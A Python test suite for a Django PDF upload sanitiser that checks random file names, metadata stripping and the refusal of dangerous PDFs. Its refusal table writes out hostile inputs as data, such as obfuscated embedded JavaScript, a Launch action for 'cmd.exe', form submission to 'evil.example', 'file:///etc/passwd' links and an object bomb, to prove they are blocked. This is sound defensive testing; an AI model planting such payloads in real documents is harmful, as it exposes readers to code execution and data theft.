"""Documents for download: PDF only, written anew under names that nobody can guess, without what says who made them."""

import re
from io import BytesIO

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile, File
from django.utils import translation
from pikepdf import Array, Dictionary, Name, String

from partnership.uploads import child, documents, store
from tests.uploads.papers import PDF, pdf, put, script, with_annotation, with_root, with_update
from tests.uploads.pictures import SECRET, encoded, exif, photo, run_worker


def upload(content, name="bericht.pdf"):
    return ContentFile(content, name=name)


def kept(media_root, content):
    """Returns the document that is stored of an upload, and its bytes."""
    token = documents.process(upload(content)).token
    stored = (media_root / f"{token}.pdf").read_bytes()
    return pikepdf.open(BytesIO(stored)), stored


def refused(content):
    with pytest.raises(ValidationError) as caught:
        documents.process(upload(content))
    return caught.value.code


# Object streams, as most programs write them.
COMPRESSED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


TAKEN = {
    "a small one": PDF,
    "with compressed objects": pdf(pages=3, **COMPRESSED),
    "linearized": pdf(pages=3, linearize=True),
    "with empty lines behind": PDF + b"\n" * 900,
    "without its table": PDF[: PDF.rindex(b"xref")] + b"trailer<</Root 1 0 R>>\n%%EOF",
    "opened at a page": with_root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
    "with a link": with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/"))),
    "with a link to write a mail": with_annotation(A=Dictionary(S=Name.URI, URI=String("mailto:a@example.org"))),
    "with a font of an odd name": with_root(Fonts=Dictionary(AA=Dictionary(Type=Name.Font))),
    "updated without harm": with_update(PDF, b"/Lang(de)"),
}


@pytest.mark.parametrize("content", TAKEN.values(), ids=TAKEN)
def test_a_document_is_written_anew_with_its_pages(media_root, content):
    document, stored = kept(media_root, content)
    assert (len(document.pages), stored[:5]) == (len(pikepdf.open(BytesIO(content)).pages), b"%PDF-")


@pytest.mark.parametrize("name", ["bericht.pdf", "bericht.html", "../../etc/passwd", "звіт.exe", ""])
def test_its_own_name_is_forgotten(media_root, name):
    token, size, *_told = documents.process(upload(PDF, name))
    assert [(path.name, path.stat().st_size) for path in media_root.iterdir()] == [(f"{token}.pdf", size)]


def test_the_same_document_twice_gets_two_names(media_root):
    tokens = {documents.process(upload(PDF)).token for _time in range(3)}
    assert ({path.stem for path in media_root.iterdir()}, len(tokens)) == (tokens, 3)


def test_a_token_is_26_letters_and_digits_and_never_the_same():
    tokens = {store.random_token() for _number in range(1000)}
    assert len(tokens) == 1000
    assert {bool(re.fullmatch("[a-z0-9]{26}", token)) for token in tokens} == {True}
    assert len(set("".join(tokens))) == 36


def test_a_document_that_was_read_before_is_taken_from_its_beginning(media_root):
    file = File(BytesIO(PDF), name="bericht.pdf")
    file.read()
    assert documents.process(file).size > 0


# --- what says who made it ----------------------------------------------------------------------------------------------

MARK = SECRET.decode()


def about(document):
    """Says in every way who made a document."""
    document.docinfo["/Title"], document.docinfo["/Author"], document.docinfo["/Producer"] = "Звіт & mehr", MARK, MARK
    document.docinfo["/CreationDate"] = f"D:2026 {MARK}"
    document.Root.Metadata = document.make_stream(
        b"<x:xmpmeta pdfuaid:part='2'><pdfuaid:part>1</pdfuaid:part>" + SECRET
    )
    document.pages[0].PieceInfo = Dictionary(Program=Dictionary(Private=String(MARK)))
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Text, T=String(MARK), Contents=String("!"))]
    )
    picture = encoded(photo(40, 30), "JPEG", exif=exif(), comment=SECRET)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(P=jpeg(document, picture)))
    document.Root.Former = document.make_indirect(Dictionary(Note=String("stays")))


def jpeg(document, content):
    image = document.make_stream(content, Type=Name.XObject, Subtype=Name.Image, Filter=Name.DCTDecode)
    image.Width, image.Height, image.ColorSpace, image.BitsPerComponent = 40, 30, Name.DeviceGray, 8
    return image


def test_nothing_says_who_made_a_document_or_where(media_root):
    content = pdf(about, compress_streams=False)
    assert content.count(SECRET) >= 6
    document, _stored = kept(media_root, content)
    document.save(plain := BytesIO(), compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert [mark for mark in (SECRET, b"Producer", b"CreationDate", b"Exif") if mark in plain.getvalue()] == []


def test_the_title_and_the_claim_to_be_accessible_stay(media_root):
    document, _stored = kept(media_root, pdf(about))
    assert dict(document.docinfo) == {"/Title": "Звіт & mehr"}
    packet = document.Root.Metadata.read_bytes().decode()
    assert "Звіт &amp; mehr" in packet
    assert "<pdfuaid:part>1</pdfuaid:part>" in packet


def test_a_picture_in_a_document_stays_what_it_is(media_root):
    document, _stored = kept(media_root, pdf(about))
    picture = pikepdf.PdfImage(document.pages[0].Resources.XObject.P).as_pil_image()
    assert (picture.size, picture.convert("L").getpixel((2, 2)) > 240, dict(picture.getexif())) == ((40, 30), True, {})


def test_former_states_and_loose_objects_are_gone(media_root):
    content = with_update(pdf(lambda document: put(document, Old=String(MARK))), b"/Lang(de)")
    assert SECRET in content
    assert SECRET not in kept(media_root, content)[1]


# --- what is refused ----------------------------------------------------------------------------------------------------

HIDDEN = pdf(lambda document: put(document, OpenAction=document.make_indirect(script())))
REFUSED = {
    "nothing": ("format", b""),
    "a beginning": ("format", b"%PDF-"),
    "an end": ("format", b"%%EOF"),
    "a frame without pages": ("format", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"),
    "no pages": ("format", pdf(pages=0)),
    "rubbish in a frame": ("format", b"%PDF-1.4\n" + b"x" * 5000 + b"\n%%EOF"),
    "a web page": ("format", b"<!doctype html><script>alert(1)</script>"),
    "a picture": ("format", encoded(photo(9, 9), "PNG")),
    "a program": ("format", b"MZ" + bytes(500)),
    "an archive": ("format", b"PK\x03\x04" + bytes(500)),
    "encrypted": ("encrypted", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))),
    "encrypted without a password": ("encrypted", pdf(encryption=pikepdf.Encryption(owner="a", user=""))),
    "a script when opened": ("scripts", with_root(OpenAction=script())),
    "a script by reference": ("scripts", HIDDEN),
    "a script in compressed objects": (
        "scripts",
        pdf(lambda document: put(document, OpenAction=document.make_indirect(script())), **COMPRESSED),
    ),
    "a script in other letters": (
        "scripts",
        HIDDEN.replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/#4aS"),
    ),
    "a script after another action": (
        "scripts",
        with_annotation(A=Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=Array([script()]))),
    ),
    "a script in the names": (
        "scripts",
        with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))),
    ),
    "a script in an update": ("scripts", with_update(PDF, b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "a script deep in arrays": ("scripts", with_root(Deep=Array([Array([Array([script()])])]))),
    "an address when opened": (
        "scripts",
        with_root(OpenAction=Dictionary(S=Name.URI, URI=String("https://a.example/"))),
    ),
    "actions of the document": ("scripts", with_root(AA=Dictionary(WC=Dictionary(S=Name.Named, N=Name.Print)))),
    "actions of a field": (
        "scripts",
        with_annotation(AA=Dictionary(E=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
    ),
    "the start of a program": ("launches", with_annotation(A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
    "a file of a network": ("launches", with_annotation(A=Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\a")))),
    "an address that is a script": (
        "launches",
        with_annotation(A=Dictionary(S=Name.URI, URI=String("javascript:a()"))),
    ),
    "an address that is a file": (
        "launches",
        with_annotation(A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
    ),
    "a form that sends": ("sends", with_annotation(A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
    "a form that fetches": ("sends", with_annotation(A=Dictionary(S=Name.ImportData, F=String("a.fdf")))),
    "a file in it": ("files", pdf(lambda document: document.attachments.__setitem__("a.exe", b"MZ"))),
    "a file at a place": (
        "files",
        with_annotation(Subtype=Name.FileAttachment, FS=Dictionary(EF=Dictionary(F=String("x")))),
    ),
    "a portfolio": ("files", with_root(Collection=Dictionary(View=Name.D))),
    "another document in it": ("files", with_annotation(A=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C)))),
    "content from another file": (
        "files",
        pdf(lambda document: put(document, X=document.make_stream(b"", F=String("a")))),
    ),
    "an XFA form": ("xfa", with_root(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([])))),
    "a film": ("media", with_annotation(Subtype=Name.Movie)),
    "a model": ("media", with_annotation(Subtype=Name("/3D"))),
    "Flash": ("media", with_annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    "a sound": ("media", with_annotation(A=Dictionary(S=Name.Sound))),
    "a signature": ("signed", with_annotation(V=Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3])))),
}


@pytest.mark.parametrize(("code", "content"), REFUSED.values(), ids=REFUSED)
def test_what_is_refused_leaves_nothing_behind(media_root, code, content):
    assert refused(content) == code
    assert not media_root.exists()


def test_a_document_that_was_mended_is_taken(media_root):
    """A script of a former state runs nowhere: it is not stored."""
    content = with_update(with_root(OpenAction=script()), b"/Lang(de)")
    assert b"app.alert" not in kept(media_root, content)[1]


@pytest.mark.parametrize(("surplus", "code"), [(0, "format"), (1, "bytes")])
def test_a_document_has_at_most_12_megabytes(surplus, code):
    assert refused(b"x" * (12 * 1024 * 1024 + surplus)) == code


def test_a_document_that_strains_the_worker_is_refused(monkeypatch, media_root, caplog):
    monkeypatch.setattr(child, "TIMEOUT", 0.01)
    assert (refused(PDF), media_root.exists()) == ("overstrained", False)
    assert [record.levelname for record in caplog.records] == ["WARNING"]


def test_a_bomb_of_objects_ends_the_worker_alone(tmp_path):
    content = pdf(lambda document: put(document, A=String("x" * 60_000_000)), **COMPRESSED)
    done = run_worker(content, tmp_path, "sh", "-c", 'ulimit -v 120000; exec "$@"', "sh", part="document")
    assert (len(content) < 100_000, done.returncode != 0) == (True, True)


def test_another_file_that_takes_too_long_is_waited_for(monkeypatch):
    monkeypatch.setattr(child, "PATIENCE", 0.01)
    with child._place:
        assert refused(PDF) == "busy"


@pytest.mark.parametrize("language", ["de", "uk"])
@pytest.mark.parametrize("code", documents.MESSAGES)
def test_every_message_is_whole_sentences(code, language):
    with translation.override(language):
        [message] = documents.refusal(code).messages
    with translation.override(None):
        [plain] = documents.refusal(code).messages
    assert (message[-1], "%" in message, message == plain) == (".", False, False)
